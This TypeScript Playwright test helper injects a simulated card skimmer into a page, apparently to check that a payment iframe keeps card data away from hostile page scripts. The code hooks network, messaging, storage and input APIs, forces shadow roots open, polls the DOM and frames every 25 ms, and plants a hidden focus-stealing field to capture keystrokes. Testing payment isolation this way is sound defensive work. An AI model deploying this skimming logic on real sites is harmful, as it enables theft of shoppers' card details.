import type { Locator, Page } from '@playwright/test';

/** What a script of the page has seen, as texts. */
export interface Skimmed {
  texts: string[];
  /** how often it read, by kind */
  hits: Record<string, number>;
}

/**
 * Adds a script to the page, before all others, that collects whatever it can: it hooks the functions by which data leaves
 * or enters, and reads the whole document repeatedly. As in reality, it has no access to frames of other origins.
 */
export async function plantSkimmer(page: Page): Promise<() => Skimmed> {
  const seen: Skimmed = { texts: [], hits: {} };
  await page.exposeFunction('loot', (kind: string, texts: string[]) => {
    seen.hits[kind] = (seen.hits[kind] ?? 0) + 1;
    seen.texts.push(...texts);
  });
  await page.addInitScript(skim);
  return () => seen;
}

/**
 * Adds a script to the page that moves the focus to a field of its own once `pay-change` reports the card's brand.
 * @returns the field
 */
export async function plantKeyThief(page: Page): Promise<Locator> {
  await page.addInitScript(() => {
    if (window !== window.top) return;
    document.addEventListener('pay-change', ({ detail }: CustomEvent<{ brand: string | null }>) => {
      if (!detail.brand || document.querySelector('#thief')) return;
      const field = Object.assign(document.createElement('input'), { id: 'thief' });
      field.style.cssText = 'position:fixed;top:0;width:1px;height:1px;opacity:0';
      document.body.append(field);
      field.focus({ preventScroll: true });
    });
  });
  return page.locator('#thief');
}

/** Runs in every document, but acts only in the page itself, like a script of the shop. */
function skim(): void {
  if (window !== window.top) return;
  const { loot } = window as unknown as { loot: (kind: string, texts: string[]) => void };
  const known = new Set<string>();
  const take = (kind: string, ...values: unknown[]): void => {
    const texts = values.map(textOf).filter((text) => !known.has(kind + text));
    for (const text of texts) known.add(kind + text);
    if (texts.length > 0) loot(kind, texts);
  };

  function textOf(value: unknown): string {
    if (typeof value === 'string') return value;
    if (value instanceof Event) return Object.values(keysOf(value)).map(String).join(' ');
    try {
      return JSON.stringify(value) ?? '';
    } catch {
      return String(value);
    }
  }

  function keysOf(event: Event): object {
    const { data, key, clipboardData, detail } = event as Event & Record<string, unknown>;
    const target = event.target as { value?: unknown } | null;
    return { data: textOf(data), key, detail: textOf(detail), clipboardData, value: target?.value };
  }

  hook(window, 'fetch');
  hook(XMLHttpRequest.prototype, 'send');
  hook(XMLHttpRequest.prototype, 'open');
  hook(navigator, 'sendBeacon');
  hook(window, 'postMessage');
  hook(MessagePort.prototype, 'postMessage');
  hook(JSON, 'stringify');
  hook(JSON, 'parse');
  hook(Element.prototype, 'setAttribute');
  hook(Storage.prototype, 'setItem');
  hook(EventTarget.prototype, 'dispatchEvent');

  function hook(owner: object, name: string): void {
    const original = Reflect.get(owner, name) as (...given: unknown[]) => unknown;
    Reflect.set(owner, name, function hooked(this: unknown, ...given: unknown[]) {
      if (owner !== JSON) take(name, ...given);
      else if (typeof given[0] === 'string') take(name, given[0]);
      return Reflect.apply(original, this ?? window, given);
    });
  }

  // Records every listener of the page, and every port that is created.
  const listen = Reflect.get(EventTarget.prototype, 'addEventListener') as (...given: unknown[]) => void;
  EventTarget.prototype.addEventListener = function hooked(
    this: EventTarget,
    type: string,
    listener: EventListenerOrEventListenerObject | null,
    options?: boolean | AddEventListenerOptions,
  ) {
    const wrapped = (event: Event): void => {
      take(`on ${type}`, event);
      if (typeof listener === 'function') Reflect.apply(listener, this, [event]);
      else listener?.handleEvent(event);
    };
    Reflect.apply(listen, this ?? window, [type, listener && wrapped, options]);
  };
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(this: MessagePort, handler: ((event: MessageEvent) => void) | null) {
      const wrapped = (event: MessageEvent): void => {
        take('port', event.data);
        handler?.call(this, event);
      };
      onmessage?.set?.call(this, handler && wrapped);
    },
  });
  const Channel = MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      take('channel', 'made');
    }
  };

  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...value,
    get(this: HTMLInputElement) {
      const text = value?.get?.call(this) as string;
      take('value', text);
      return text;
    },
    set(this: HTMLInputElement, text: string) {
      take('value', text);
      value?.set?.call(this, text);
    },
  });

  const roots = new Set<ShadowRoot>();
  const attach: typeof Element.prototype.attachShadow = Reflect.get(Element.prototype, 'attachShadow');
  Element.prototype.attachShadow = function hooked(this: Element, init: ShadowRootInit) {
    const root = Reflect.apply(attach, this, [{ ...init, mode: 'open' }]);
    roots.add(root);
    take('attachShadow', this.localName);
    return root;
  };

  for (const type of [
    'keydown',
    'keypress',
    'keyup',
    'input',
    'beforeinput',
    'change',
    'paste',
    'copy',
    'message',
  ])
    Reflect.apply(listen, window, [type, (event: Event) => take(`window ${type}`, event), true]);

  // Includes frames, as far as they are accessible.
  const read = (root: Document | ShadowRoot): void => {
    take('document', root instanceof Document ? root.documentElement?.outerHTML : root.innerHTML);
    for (const input of root.querySelectorAll('input,textarea,select'))
      take('field', (input as HTMLInputElement).value);
    for (const frame of root.querySelectorAll('iframe')) {
      take('frame', frame.src);
      try {
        if (frame.contentDocument) read(frame.contentDocument);
      } catch {
        take('frame', 'refused');
      }
    }
  };
  setInterval(() => {
    read(document);
    for (const root of roots) read(root);
    take('selection', String(getSelection()));
  }, 25);
}
